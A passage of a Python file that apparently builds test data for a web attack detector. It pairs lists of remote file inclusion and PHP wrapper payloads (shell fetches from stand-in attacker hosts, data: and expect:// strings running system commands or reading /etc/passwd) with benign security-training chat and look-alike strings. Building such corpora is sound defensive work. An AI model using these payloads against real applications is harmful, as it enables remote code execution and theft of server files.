    "https://transfer.sh/Abc12/shell.txt?",
    "http://evil.example.com/shell.gif?",
    "http://evil.example.com/shell.txt?.html",
    "http://evil.example.com/shell.txt#",
]

# include-parameter-with-url: the parameter names include() reads (page/file/template/include/path/language) with
# a remote URL; some entries are the whole query string as the lab's URL bar shows it (target: PHP include)
INCLUDE_PARAM: list[Entry] = [
    "http://evil.example.com/shell.txt",
    "https://evil.example.com/inc/header.txt",
    "http://attacker.example.org/templates/default.txt",
    "http://evil.example.com/lang/en.txt",
    "https://evil.example.com/modules/news.txt",
    "http://10.10.14.7/include.txt",
    "http://evil.example.com/layout.txt",
    "https://evil.example.com/content/home.txt",
    "http://evil.example.com/conf/settings.txt",
    "http://evil.example.com/view/main.txt",
    "http://evil.example.com/pages/about.txt",
    "http://evil.example.com/skins/blue.txt",
    "http://evil.example.com/plugins/init.txt",
    "https://evil.example.com/themes/dark/index.txt",
    "http://evil.example.com/lib/functions.txt",
    # the query strings as they appear in the labs
    ("page=http://evil.example.com/shell.txt", *KV),
    ("page=http://10.10.14.7/shell.txt&cmd=id", *KV),
    ("file=http://evil.example.com/c99.txt", *KV),
    ("language=http://10.10.14.7/s.txt&action=go", *KV),
    ("include=https://evil.example.com/s.txt", *KV),
    ("template=http://evil.example.com/t.txt", *KV),
    ("path=http://evil.example.com/x.txt?", *KV),
    ("inc=http://evil.example.com/inc.txt", *KV),
    ("page=hthttp://tp://10.10.14.7/s.txt", *KV),
    ("mod=http://evil.example.com/mod.txt", *KV),
    ("page=http://evil.example.com/r57.txt", *KF),
    ("file=https://10.10.14.7/cmd.txt&c=whoami", *KF),
    ("language=hTTp://evil.example.com/lang.txt", *KF),
    ("template=//evil.example.com/t.txt", *KF),
    ("include_path=http://evil.example.com/", *KF),
    ("doc=http://evil.example.com/doc.txt", *KF),
    ("view=https://evil.example.com/v.txt", *KF),
]

# off-domain-reference: the include pointed at a host the lab does not own: the student's tunnel, a paste site,
# a collaborator/webhook host, a shortener (target: PHP include, and server-side fetchers of the same labs)
OFF_DOMAIN: list[Entry] = [
    "https://evil.example.com/shell.txt",
    "https://4f2a-81-2-69-142.ngrok-free.app/shell.txt",
    "http://pastebin.com/raw/A1b2C3d4",
    "https://gist.githubusercontent.com/anon/1f2e3d/raw/shell.php",
    "http://www.google.com/",
    "https://tinyurl.com/y7shellx",
    "http://k3v9x2.oastify.com/",
    "http://x7q.burpcollaborator.net/rfi",
    "https://webhook.site/2b5c9f1e-7a3d-4c1e-9b8f-0d6a5e4c3b2a",
    "http://evil.example.com@10.10.14.7/s.txt",
    "http://localhost.evil.example.com/s.txt",
    "https://raw.githubusercontent.com/flozz/p0wny-shell/master/shell.php",
    "https://pastebin.com/raw/Qw3rTy12",
    "http://attacker.example.org/r.txt",
    "https://evil.example.com/.well-known/s.txt",
    "http://0day.evil.example.com/x.php",
    "https://bit.ly/3shellx",
    "http://abcd1234.oast.fun/",
    "https://c5f1abcde.interact.sh/",
    "http://evil.example.com:8080/s.txt",
    "https://evil.example.com/shell.txt#.php",
    "http://EVIL.EXAMPLE.COM/S.TXT",
    "http:\\\\evil.example.com\\shell.txt",
    "https://dvwa.local.evil.example.com/inc.txt",
    "http://evil.example.com/shell.txt%23",
    "https://transfer.sh/get/Xyz9/rev.txt",
    "http://attacker.example.org:80/php-reverse-shell.php",
    "https://cdn.evil.example.com/js/inc.txt",
    "http://evil.example.com/uploads/shell.txt",
    "https://evil.example.net/payloads/cmd.txt",
]

# protocols: other schemes an include or fetcher follows (target: PHP wrappers ftp://, data:, expect://, UNC
# paths on Windows PHP with allow_url_include off, SMB/WebDAV, Java jar:)
PROTOCOLS: list[Entry] = [
    "ftp://10.10.14.7/shell.txt",
    "ftp://anonymous:anonymous@10.10.14.7/pub/s.php",
    "ftps://10.10.14.7/shell.txt",
    "smb://10.10.14.7/share/shell.php",
    "\\\\10.10.14.7\\share\\shell.php",
    "\\\\10.10.14.7@8080\\DavWWWRoot\\shell.php",
    "\\\\evil.example.com\\public\\rev.php",
    "//10.10.14.7/share/shell.php",
    "file://10.10.14.7/share/shell.php",
    "data:text/plain,<?php system('id'); ?>",
    "data://text/plain,<?php phpinfo(); ?>",
    "data:text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "DaTa://text/plain,<?php echo shell_exec($_GET['c']); ?>",
    "expect://id",
    "expect://ls -la",
    "expect://cat /etc/passwd",
    "expect://whoami",
    "EXPECT://uname -a",
    "tftp://10.10.14.7/shell.txt",
    "sftp://10.10.14.7/shell.txt",
    "ssh2.exec://student:student@10.10.14.7:22/id",
    "jar:http://10.10.14.7/shell.jar!/",
    "gopher://10.10.14.7:4444/_GET%20/shell.txt",
    "dict://10.10.14.7:4444/info",
    "\\\\10.10.14.7\\share\\shell.txt",
    "FTP://10.10.14.7/S.TXT",
    "ftp://ftp:ftp@10.10.14.7:2121/shell.php",
    "smb://evil.example.com/share/rev.php",
    "\\\\10.10.14.7@SSL\\DavWWWRoot\\shell.php",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", UNIX_INJECTION),
    ("rce", "unix-shell-evasion", UNIX_EVASION),
    ("rce", "windows-cmd-injection", WINDOWS_CMD),
    ("rce", "powershell", POWERSHELL),
    ("rce", "unix-command-with-path", UNIX_PATHS),
    ("rce", "reverse-shell", REVERSE_SHELL),
    ("rce", "shellshock", SHELLSHOCK),
    ("rce", "downloader", DOWNLOADER),
    ("rce", "shell-file-write", FILE_WRITE),
    ("rce", "restricted-file-names", RESTRICTED_NAMES),
    ("lfi", "path-traversal", PATH_TRAVERSAL),
    ("lfi", "os-file-access", OS_FILES),
    ("lfi", "absolute-path", ABSOLUTE),
    ("lfi", "null-byte-truncation", NULL_BYTE),
    ("lfi", "php-wrapper-lfi", PHP_WRAPPER),
    ("lfi", "log-poisoning", LOG_POISONING),
    ("lfi", "restricted-file-extensions", RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", URL_IP),
    ("rfi", "url-trailing-question-mark", URL_QUESTION),
    ("rfi", "include-parameter-with-url", INCLUDE_PARAM),
    ("rfi", "off-domain-reference", OFF_DOMAIN),
    ("rfi", "protocols", PROTOCOLS),
]
# sub-families whose fixed `name=value` entries are whole query strings, sent unquoted
RAW_KV_SUBS = {"log-poisoning", "include-parameter-with-url"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-form", "rs-param-name")
    kv_safe = "=&[]._-:/'*$!(),;{}~@?%\\"
    unique = True
    # the parameter each lab reads
    category_names: dict[str, Sequence[str]] = {
        "rce": ("ip", "host", "target", "domain", "cmd", "addr", "q", "name"),
        "lfi": ("page", "file", "path", "doc", "template", "lang", "filename", "view"),
        "rfi": ("page", "url", "file", "include", "src", "template", "path", "redirect"),
    }
    include_names: Sequence[str] = ("page", "file", "include", "template", "path", "inc", "language", "view")
    header_cycle: Cycles = (("header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version"),
                            ("rs-header:User-Agent", "rs-header:Referer", "rs-header:X-Test-Header", "rs-cookie"))
    path_forbids = "/?#"
    raw_body_forbids = "&"
    xml_controls = "\n\t"

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        if sub == "shellshock":   # a CGI script sees headers and cookies as environment variables
            return self.header_cycle
        return super().cycles(category, sub, payload)

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.include_names if sub == "include-parameter-with-url" else self.category_names[category]
        return names[k % len(names)]

    def rs_name(self, category: str, sub: str, k: int) -> str:
        if sub == "include-parameter-with-url":
            return self.include_names[k % len(self.include_names)]
        return super().rs_name(category, sub, k)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (a security team's training channel: students asking about the labs,
# instructors' hints in prose, course schedules, links to write-ups and docs, code review comments, searches,
# profiles, lab-report file names, ordinary headers)
CHAT = [
    # students asking about the labs
    "is anyone else stuck on the DVWA command injection page at high level? low and medium were quick",
    "which DVWA security level should we start with, low or impossible?",
    "my DVWA setup page says allow_url_include is disabled, do I need it for the file inclusion lab?",
    "Juice Shop keeps resetting my score board progress when the container restarts, any tips?",
    "finished the WebGoat path traversal lesson, the zip slip part was the hardest",
    "bWAPP won't start, it says the database is missing. do I run install.php first?",
    "the Mutillidae DNS lookup page times out on my VM, maybe the network adapter is host-only",
    "TryHackMe VPN connected but the box IP doesn't answer ping, is that expected?",
    "HackTheBox machine reset again mid-exploit, someone else must have restarted it",
    "what's the difference between LFI and RFI in one sentence? asking for the quiz",
    "does the reverse shell lab need the VPN or does it work from the AttackBox?",
    "I got a shell on the lab box but it dies after a minute, how do you stabilise it?",
    "the PortSwigger lab says 'Congratulations, you solved the lab!' but my progress bar didn't move",
    "how do you know whether the page is using include or file_get_contents without source access?",
    "is the netcat on Kali the openbsd version? the -e flag isn't there",
    "why does the medium level of DVWA still work with a single ampersand? the filter looks complete",
    "the shellshock room on THM mentions CGI scripts, does our nginx even run CGI?",
    "can someone explain what ${IFS} is? saw it in a write-up and the bash manual is long",
    "wrote my first PowerShell script for the Windows lab, it lists the local users",
    "Juice Shop poison null byte challenge: I get 403 on the ftp folder, is that the intended first step?",
    "which wordlist do you use for directory busting in the labs? the default one is huge",
    "the lab VM only has 2 GB RAM, Burp is swapping like crazy",
    # instructors' hints and announcements
    "hint for the command injection lab: think about what characters the shell treats as separators",
    "hint for file inclusion: the page parameter is appended with .php, read the source once you can",
    "reminder: only attack the lab targets in the 10.10.0.0/16 range, never the course portal",
    "the labs reset every night at 02:00 UTC, save your notes outside the VM",
    "office hours tomorrow: log poisoning and why it only works when the log is readable by www-data",
    "please write up which filter you bypassed and why it failed, not just the final payload",
    "next week: Windows targets. bring a VM with PowerShell 7 and the RSAT tools",
    "the php://filter trick is covered in module 4, don't skip ahead of the slides",
    "remember that the 'impossible' level in DVWA is the fixed version, compare it with high",
    "grading rubric: 40% exploitation, 40% root cause, 20% remediation advice",
    "the Juice Shop instance for cohort 7 is at the usual URL, credentials in the course wiki",
    "we are retiring the old Mutillidae VM, the docker image replaces it from Monday",
    "guest speaker Thursday: a red teamer talking about real-world command injection in IoT routers",
    "quiz on path traversal encodings is open until Sunday 23:59",
    "lab 6 (remote file inclusion) needs the attacker box to serve files on port 8000",
    "for the shellshock exercise, the vulnerable bash version is pinned in the lab image on purpose",
    "cheat sheets are allowed in the exam, internet access is not",
    "capstone teams are posted, each team gets one HTB-style box and a report template",
    # code review and engineering chat
    "code review: please don't pass the filename straight to open(), resolve it and check it's under the upload dir",
    "PR 412 replaces subprocess with shell=True by a list of arguments, nice catch by the training cohort",
    "the log viewer in the admin tool takes a path parameter, I'd like a second pair of eyes on it",
    "we allow only [a-z0-9-] in report names now, the old version accepted dots and slashes",
    "reminder: os.path.join ignores the base when the second part is absolute, that bit us before",
    "the export job shells out to pg_dump, arguments are passed as a list so no shell parsing",
    "switched the thumbnail service from convert via system() to the Pillow library",
    "the nginx config now denies dotfiles, so .git and .env return 404",
    "the backup script writes .bak files next to the config, moving them out of the web root",
    "ping endpoint in the status page only accepts hostnames from the allowlist now",
    "anyone know why curl | bash is in the install docs? let's ship a package instead",
    "the include path in the legacy PHP app is set in php.ini, not per request, good",
    "the templates directory is read-only for the app user after the hardening change",
    "web.config for the IIS staging box has the connection string encrypted now",
    "the Windows runner uses cmd /c for the build steps, should we move them to PowerShell?",
    # support and day-to-day
    "lab portal login is fixed, it was an expired certificate",
    "certificates of completion go out Friday, check your name spelling in the profile",
    "the training budget covers the TryHackMe premium seats for this quarter",
    "if your Kali VM lost its network after the update, re-enable the NAT adapter",
    "lost the VPN config file? download it again from the profile page of the lab platform",
    "Slack channel for cohort 8 is #sec-training-c8, this one stays for alumni",
    "we're collecting feedback on the labs, the form closes next Wednesday",
    # bios
    "Security trainer. I run the web labs: DVWA, Juice Shop, WebGoat. Office hours Tuesdays.",
    "Student in cohort 7. Currently stuck on file inclusion, send hints not answers.",
    "Pentester, OSCP and OSWE. Mentor for the command injection and file inclusion modules.",
    "Red team lead. Mostly Windows and PowerShell, occasionally Linux boxes on HTB.",
    "Juice Shop contributor, ask me about the score board.",
    "Blue teamer learning offence. Writing detection rules for what I break in the labs.",
    "CTF player (web) and TryHackMe top 1% this month",
    "Teaching assistant for the secure coding course, Python and PHP",
    "Former sysadmin, now AppSec. I still think in bash one-liners.",
    "Learning web security one lab at a time",
]

SEARCHES = [
    "dvwa", "juice shop", "webgoat", "bwapp", "mutillidae", "hackthebox", "tryhackme", "lab", "cohort 7",
    "trainer", "pentest", "red team", "blue team", "shell", "bash", "powershell", "netcat", "kali",
    "include", "file", "path", "page", "template", "passwd", "win.ini", "config", "backup", "log",
    "O'Connor", "ping", "curl", "wget", "echo", "cmd", "windows", "linux", "php", "proxy", "filter",
    "injection", "traversal", "inclusion", "remote", "shellshock", "ctf",
]

URLS = [
    "https://github.com/digininja/DVWA",
    "https://owasp.org/www-project-juice-shop/",
    "https://pwning.owasp-juice.shop/companion-guide/latest/part2/",
    "https://owasp.org/www-project-webgoat/",
    "https://github.com/webpwnized/mutillidae",
    "http://www.itsecgames.com/",
    "https://tryhackme.com/room/owasptop10",
    "https://app.hackthebox.com/machines/Shocker",
    "https://portswigger.net/web-security/os-command-injection",
    "https://portswigger.net/web-security/file-path-traversal",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/filesystem.configuration.php#ini.allow-url-include",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://www.gnu.org/software/bash/manual/html_node/Shell-Parameter-Expansion.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_quoting_rules",
    "https://docs.python.org/3/library/subprocess.html#security-considerations",
    "https://training.example.com/cohort-7/schedule?week=3",
]

PROSE = [
    "DVWA command injection - writeup draft",
    "file inclusion lab notes (low, medium, high)",
    "Juice Shop score board walkthrough session",
    "WebGoat path traversal lesson review",
    "bWAPP install troubleshooting",
    "Mutillidae docker migration",
    "HTB Shocker retrospective",
    "TryHackMe seats renewal",
    "reverse shell stabilisation: python pty, stty raw",
    "log poisoning discussion, Thursday 3pm",
    "remote file inclusion lab setup: attacker box serves on port 8000",
    "PowerShell for pentesters, module 5",
    "Windows lab: cmd vs PowerShell quoting",
    "week 3: separators, substitution and filters",
    "week 4: traversal, wrappers and null bytes (history)",
    "capstone report template v2",
    "grading: exploitation / root cause / remediation",
    "cohort 7 attendance",
    "cohort 8 onboarding checklist",
    "lab VM requirements: 4 GB RAM, 2 CPUs",
    "Kali rolling update broke networking",
    "netcat versions: openbsd vs traditional",
    "code review: subprocess without shell=True",
    "code review: resolve paths under the upload directory",
    "hardening: deny dotfiles in nginx",
    "backup files out of the web root",
    "allow_url_include off everywhere",
    "shellshock patch history for the lab image",
    "guest talk: command injection in IoT routers",
    "office hours: Tuesday and Thursday",
    "feedback form for the web labs",
    "certificate names and spelling",
    "wordlists for directory busting",
    "Burp Suite Community vs Pro for the course",
    "O'Connor, Siobhan (TA)",
    "alumni channel rules",
    "exam: cheat sheets allowed, no internet",
    "lab reset schedule 02:00 UTC",
    "VPN config download help",
    "secure coding course, PHP track",
]

PROFILES = [
    ("Dana Webb", "Training Centre, Room 4B, Leeds"),
    ("Siobhan O'Connor", "Harcourt St 14, Dublin"),
    ("Marcus Shell", "Bash Lane 3, Bristol"),
    ("Priya Nair", "Cyber Park 2, Kochi"),
    ("Tomás Path", "Rua da Inclusão 8, Porto"),
    ("Juice Bar Collective", "Market St 12, Cape Town"),
    ("Goat Farm Training Ltd", "Hill Rd 5, Wellington"),
    ("Hack The Box Meetup", "Campus West, Athens"),
    ("Kali Yoga Studio", "Temple St 21, Kolkata"),
    ("Netcat Networks", "Fibre Way 9, Tallinn"),
    ("Ping Pong Club", "Sports Hall, Utrecht"),
    ("Echo Audio", "Sound Rd 4, Austin"),
    ("Curl Salon", "High St 44, Glasgow"),
    ("Windows & Doors Co", "Industrial Est 7, Leicester"),
    ("Red Team Coffee", "Harbour Front 1, Oslo"),
    ("Blue Team Bakery", "Canal Side 3, Ghent"),
    ("Filter House Brewing", "Brewery Ln 10, Portland"),
    ("Template Studio", "Design District, Milan"),
    ("Include Foundation", "Civic Sq 2, Toronto"),
    ("Remote First Ltd", "Anywhere, Remote"),
]

UPLOAD_NAMES = [
    "dvwa-command-injection-writeup.pdf", "file-inclusion-lab-report.docx", "juice-shop-scoreboard.png",
    "webgoat-path-traversal-notes.md", "bwapp-install-log.txt", "mutillidae-docker-compose.yml",
    "htb-shocker-retro.pdf", "cohort7-attendance.csv", "capstone-report-template-v2.docx",
    "reverse-shell-cheatsheet.pdf", "powershell-module5-slides.pptx", "lab-vm-requirements.pdf",
    "grading-rubric.xlsx", "kali-network-fix.png", "log-poisoning-diagram.svg", "training-schedule-q3.ics",
    "certificate-dana-webb.pdf", "feedback-summary.xlsx", "secure-coding-php-track.pdf", "exam-cheatsheet.pdf",
    "team-photo cohort 7.jpg", "O'Connor-ta-contract.pdf", "week3-separators-and-filters.pdf",
    "week4-traversal-and-wrappers.pdf", "nginx-dotfile-hardening.md",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Wget/1.21.4"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "PowerShell/7.4.2"),
    ("Referer", "https://tryhackme.com/room/owasptop10"),
    ("Referer", "https://portswigger.net/web-security/os-command-injection"),
    ("Referer", "https://training.example.com/cohort-7/labs/file-inclusion"),
    ("Referer", "https://app.example.com/admin/users/search?q=dvwa"),
    ("Referer", "https://www.google.com/search?q=dvwa+file+inclusion+medium+level"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "lab-run-7f3c2a91-0b4e"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.6"),
    ("Cookie", "session=abc123; theme=dark; lab=dvwa"),
    ("Cookie", "session=abc123; last_search=juice%20shop; tz=Europe%2FDublin"),
    ("Cookie", "session=abc123; cohort=7; page_size=25"),
    ("If-Modified-Since", "Wed, 12 Jun 2024 08:30:00 GMT"),
    ("X-Forwarded-For", "10.10.14.7"),
]


def benign() -> Iterator[dict[str, Any]]:
    return SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS)


if __name__ == "__main__":
    print_records(attacks(), benign())
